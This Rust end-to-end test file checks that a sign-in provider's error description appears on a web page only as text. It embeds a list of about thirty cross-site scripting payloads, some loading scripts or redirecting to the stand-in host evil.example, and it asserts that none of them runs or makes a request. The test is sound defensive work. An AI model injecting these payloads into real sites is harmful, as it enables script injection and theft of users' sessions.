//! What a provider says stands on a page as text, and as nothing else.

use e2e::{Chromium, provider::Decision, run};

use crate::Notes;

const HOSTILE: [&str; 30] = [
    "<script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "</q></p></main><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>Continue</a>",
    "<form action=https://evil.example/><button>Connect</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}<plaintext>",
];

#[test]
fn o7_hostile_words_of_a_provider_run_nothing_and_make_no_element() {
    run(async {
        let notes = Notes::open().await;
        let (alice, link) = notes.caller("alice").await;
        let window = Chromium::person().await;
        window.sits_down_as(&alice, &notes.world.public_url).await;
        let mut harmless = None;
        for words in ["the user said no"].iter().chain(&HOSTILE) {
            notes.provider.decide(Decision::Refuse { error: "access_denied".into(), description: (*words).into() });
            window.opens(link.as_str()).await;
            window.presses("Connect").await;
            window.sees("Back").await;
            let page = window.looks().await;
            let expected = harmless.get_or_insert_with(|| page.elements.clone());
            assert_eq!(&page.elements, expected, "{words}: {page:?}");
            assert!(
                page.ran.is_empty() && page.asked.iter().all(|url| url.starts_with("http://127.0.0.1:")),
                "{words}: {page:?}"
            );
        }
        assert!(window.looks().await.text.contains("The provider says:"));
        notes.assert_nothing_stored(&[&alice]).await;
        window.leaves().await;
    });
}
